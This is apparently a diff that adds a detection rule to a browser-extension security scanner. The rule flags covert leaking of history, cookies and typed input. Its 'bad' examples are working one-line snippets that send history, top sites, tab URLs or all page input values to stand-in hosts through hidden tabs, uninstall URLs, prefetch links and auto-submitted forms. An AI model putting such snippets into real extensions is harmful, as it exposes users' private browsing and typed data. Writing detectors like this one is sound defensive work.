@@ -1,0 +1,71 @@
+import { apiPath, callsNamed, callsOf, constant, pattern, propertyOf, receiverOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
+import { tagOf } from './codeRuns.ts';
+import { leadsOut } from './network.ts';
+import { originsOf } from './origins.ts';
+import { few } from './usage.ts';
+
+const SOURCES = ['chrome.history.search', 'chrome.history.getVisits', 'chrome.bookmarks.getTree', 'chrome.bookmarks.search', 'chrome.topSites.get', 'chrome.cookies.get', 'chrome.cookies.getAll', 'chrome.cookies.onChanged.addListener', 'chrome.tabs.onUpdated.addListener', 'chrome.tabs.onActivated.addListener', 'chrome.webNavigation.onCompleted.addListener', 'chrome.webNavigation.onCommitted.addListener', 'chrome.sessions.getRecentlyClosed', 'chrome.management.getAll', 'chrome.downloads.search'];
+
+export const browsingDataSmuggled = defineRule({
+  id: 'browsing-data-smuggled',
+  title: 'Data leaves by a way that does not look like sending',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'privacy',
+  applies: 'extension',
+  cwe: 'CWE-359',
+  references: ['https://attack.mitre.org/techniques/T1048/'],
+  why: 'What a person does or types stands in the address of a page, picture, style or form that is opened. Requests of that kind are easily overlooked, and chosen for that.',
+  remedy: 'Send nothing that is not needed, and what is needed by an open request of the extension.',
+  check: checkScripts(function* ({ script, hit }) {
+    const taken = new Set(callsOf(script, ...SOURCES).map((call) => call.value));
+    const typed = new Set(few(callsOf(script, 'document.querySelectorAll', 'document.getElementsByTagName'), 100).filter((call) => /\b(input|textarea|select)\b/i.test(constant(script, call.args[0] ?? 0) ?? '')).map((call) => call.value));
+    if (taken.size === 0 && typed.size === 0) return;
+    for (const { value, to, way } of ways(script)) {
+      const origins = originsOf(script, value);
+      if ([...taken].some((one) => origins.has(one))) yield hit(value, { message: `It stands in the address of ${way}: ${to.slice(0, 80)}` });
+    }
+    // A form of the script's own that is filled with what is typed in others, and sent.
+    const form = writesOf(script, 'action').find((write) => tagOf(script, write.object) === 'form' && leadsOut(pattern(script, write.value)));
+    if (form === undefined || callsNamed(script, 'submit').length === 0) return;
+    const filled = writesOf(script, 'value').find((write) => tagOf(script, write.object) === 'input' && [...typed, ...taken].some((one) => originsOf(script, write.value).has(one)));
+    if (filled !== undefined) yield hit(filled.value, { severity: 'critical', message: `It is put into a form that goes to ${pattern(script, form.value)}.` });
+  }),
+  examples: {
+    bad: [
+      backgroundExample('chrome.history.search({ text: "" }, (r) => { const d = encodeURIComponent(JSON.stringify(r.map((x) => x.url))); chrome.tabs.create({ url: "https://r.example/c#" + d, active: false }); });'),
+      backgroundExample('chrome.topSites.get((s) => chrome.runtime.setUninstallURL("https://bye.example/?s=" + encodeURIComponent(s.map((x) => x.url).join(","))));'),
+      backgroundExample('chrome.tabs.onUpdated.addListener((id, c, t) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://cdn.example/" + btoa(t.url) + ".css"; document.head.append(l); });'),
+      contentExample('addEventListener("beforeunload", () => { const f = document.createElement("form"); f.action = "https://save.example/p"; const a = document.createElement("input"); a.value = JSON.stringify([...document.querySelectorAll("input")].map((e) => e.value)); f.append(a); document.body.append(f); f.submit(); });'),
+    ],
+    good: [
+      backgroundExample('chrome.runtime.setUninstallURL("https://tool.example/bye?v=" + chrome.runtime.getManifest().version); chrome.history.search({ text: "" }, show);'),
+      backgroundExample('chrome.tabs.onUpdated.addListener((id, c, t) => { if (t.url.startsWith("https://old.example/")) chrome.tabs.create({ url: "https://new.example/" }); });'),
+      contentExample('const f = document.createElement("form"); f.action = "https://tool.example/search"; const q = document.createElement("input"); q.value = getSelection().toString(); f.append(q); f.submit(); document.querySelectorAll("input").forEach(style);'),
+    ],
+  },
+});
+
+/** Addresses outside that the script opens other than by a request. */
+function* ways(script: ScriptFacts): Generator<{ value: number; to: string; way: string }> {
+  const known = (value: number, way: string): { value: number; to: string; way: string }[] => {
+    const to = pattern(script, value);
+    // Only what follows a host that the script names; an address as a whole is a page that is opened.
+    return value !== 0 && /^(https?:)?\/\/[^/*]+[/?#]?.*\*/i.test(to) ? [{ value, to, way }] : [];
+  };
+  for (const call of few(callsOf(script, 'chrome.tabs.create', 'chrome.windows.create'))) {
+    const options = call.args[0] ?? 0;
+    const hidden = constant(script, propertyOf(script, options, 'active')) === 'false' || script.strings[script.a[propertyOf(script, options, 'active')] ?? -1] === 'false' || constant(script, propertyOf(script, options, 'state')) === 'minimized';
+    if (hidden) yield* known(propertyOf(script, options, 'url'), 'a tab that is not shown');
+  }
+  for (const call of callsOf(script, 'chrome.runtime.setUninstallURL')) yield* known(call.args[0] ?? 0, 'the page shown after removal');
+  for (const write of few(writesOf(script, 'href'), 200)) if (tagOf(script, write.object) === 'link') yield* known(write.value, 'a style or prefetched page');
+  for (const call of few(callsNamed(script, 'setAttribute'), 200)) if (/^(href|src)$/.test(constant(script, call.args[0] ?? 0) ?? '') && /^(link|img|iframe|script)$/.test(tagOf(script, receiverOf(script, call)) ?? '')) yield* known(call.args[1] ?? 0, 'a part of a page');
+  for (const write of few(writesOf(script, 'backgroundImage', 'background', 'cssText'), 200)) {
+    const to = /url\(["']?((?:https?:)?\/\/[^)*]+[^)]*\*)/i.exec(pattern(script, write.value))?.[1];
+    if (to !== undefined) yield { value: write.value, to, way: 'a picture in a style' };
+  }
+  for (const write of few(writesOf(script, 'src'), 200)) if (tagOf(script, write.object) === 'iframe' && apiPath(script, write.object) !== 'Image()') yield* known(write.value, 'a frame');
+}
